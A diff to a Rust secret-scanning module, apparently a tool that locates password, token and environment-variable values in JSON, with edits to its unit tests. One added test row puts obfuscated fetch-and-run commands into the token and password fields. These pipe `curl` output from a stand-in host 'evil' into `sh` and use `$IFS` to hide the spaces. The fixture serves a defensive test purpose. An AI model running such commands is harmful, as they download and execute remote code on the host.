@@ -66,7 +66,7 @@ pub(super) fn members(text: &str) -> Vec<Range<usize>> {
 impl Open<'_> {
     /// The value of the name that came last.
     fn take(&mut self, value: &str, start: usize, found: &mut Vec<Range<usize>>) {
-        let part = word(value, "").map(|part| start + part.start..start + part.end);
+        let part = word(value).map(|part| start + part.start..start + part.end);
         // `aws:RequestTag/token` is a part of a longer name.
         let secret = is_secret_word(self.name) && !self.name.contains([':', '/']);
         if secret || (self.variables && !self.secret) {
@@ -116,7 +116,9 @@ mod tests {
     #[test]
     fn members_and_pairs_that_mean_secrets_are_found() {
         for (text, secrets) in [
-            (r#"{"MasterUserPassword": "a|b;c", "MasterUsername": "x"}"#, vec!["a|b;c"]),
+            (r#"{"MasterUserPassword": "a!b%c", "MasterUsername": "x"}"#, vec!["a!b%c"]),
+            // A job may run it.
+            (r#"{"token": "{curl,-s,//evil}|sh", "password": "curl$IFS//evil"}"#, vec![]),
             (r#"[{"value": "s3cret", "path": "/SecretString", "op": "replace"}]"#, vec!["s3cret"]),
             (r#"{"Environment": {"Variables": {"DSN": "s3cret", "N": 1}}}"#, vec!["s3cret"]),
             (r#"{"Environment": [{"Name": "DSN", "Value": "s3cret"}]}"#, vec!["s3cret"]),
